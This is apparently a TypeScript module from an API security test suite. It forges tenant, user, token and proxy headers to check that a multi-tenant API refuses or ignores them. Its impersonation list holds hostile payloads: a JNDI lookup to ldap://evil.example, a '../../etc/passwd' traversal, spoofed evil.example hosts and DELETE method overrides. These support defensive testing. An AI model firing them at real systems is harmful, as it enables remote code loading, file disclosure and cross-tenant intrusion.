import { ruleOf } from '../rules/route-rule.ts'
import type { AttackClass, Attempt } from '../suite/attempt.ts'
import type { Route } from '../world/route.ts'
import type { World } from '../world/world.ts'
import { type Api, apisOf, controlsOf, isOpen, mayCall, operationName, rightfully } from './api.ts'

/** Headers that name a tenant, a person or a route: none changes who calls what; one that contradicts the token is refused. */
export function headers(world: World): AttackClass {
  const apis = apisOf(world).map((api) => ({ ...api, routes: api.routes.filter((route) => !isOpen(route)) }))
  return {
    name: 'headers',
    controls: apis.flatMap((api) => controlsOf(world, api)),
    attempts: apis.flatMap((api) => api.routes.flatMap((route) => attemptsOn(world, api, route))),
    skipped: [],
  }
}

function attemptsOn(world: World, api: Api, route: Route): Attempt[] {
  const { victim } = world
  const rule = ruleOf(api.rules, route)
  const { ids } = rule
  const cases: [mutation: string, headers: Record<string, string>, expected: string][] = [
    ...(api.name === 'tenant API'
      ? [
          victim.config.tenantId,
          `${world.attacker.config.tenantId}x`,
          '',
          '*',
          'null',
          String.raw`\${aws:PrincipalTag/TenantId}`,
        ]
      : []
    ).map((id): [string, Record<string, string>, string] => [
      `X-Tenant-Id "${id}"`,
      { 'x-tenant-id': id },
      '409 TENANT_MISMATCH X-Tenant-Id',
    ]),
    // A call that uses something up is one that other cases cannot share.
    ...(rule.control || rule.costly ? [] : impersonations(world)).map(
      (headers): [string, Record<string, string>, string] => [Object.keys(headers).join(', '), headers, route.success],
    ),
  ]
  return Object.entries(api.people)
    .filter(([role]) => mayCall(route, role))
    .flatMap(([role, { token }]) =>
      cases.map(([mutation, headers, expected]) => ({
        operation: operationName(route),
        role,
        mutation,
        expected,
        send: () =>
          rightfully(world, api, route, {
            token,
            headers,
            // What is refused uses nothing up.
            ...(ids && expected !== route.success && { id: ids.standing(world) }),
          }),
      })),
    )
}

/** Headers that some gateway, proxy or framework believes. */
function impersonations({ victim }: World): Record<string, string>[] {
  const { tenantId } = victim.config
  const { userId, token } = victim.admin
  return [
    { 'x-amzn-tenant-id': tenantId, 'x-tenant': tenantId, tenantid: tenantId },
    { 'x-amz-tenant-id': tenantId },
    { 'x-user-id': userId, 'x-userid': userId, 'x-forwarded-user': userId, 'x-remote-user': userId },
    { 'x-api-key': 'a-key-of-another-tenant-0123456789' },
    { 'x-authorizer-tenantid': tenantId, 'x-amzn-authorizer': JSON.stringify({ tenantId }) },
    { 'x-original-url': '/users', 'x-rewrite-url': '/users' },
    { 'x-http-method-override': 'DELETE', 'x-method-override': 'DELETE', 'x-http-method': 'DELETE' },
    { 'x-forwarded-host': 'evil.example', 'x-forwarded-for': '127.0.0.1', forwarded: 'for=127.0.0.1' },
    { cookie: `token=${token}; tenantId=${tenantId}` },
    { 'x-amz-security-token': token },
    { 'x-access-token': token, 'x-id-token': token },
    { origin: 'https://evil.example', referer: 'https://evil.example/' },
    { 'accept-language': '../../etc/passwd', 'user-agent': String.raw`\${jndi:ldap://evil.example/a}` },
    { 'x-amzn-requestid': 'forged', 'x-amzn-trace-id': `Root=1-0-0;TenantId=${tenantId}` },
  ]
}
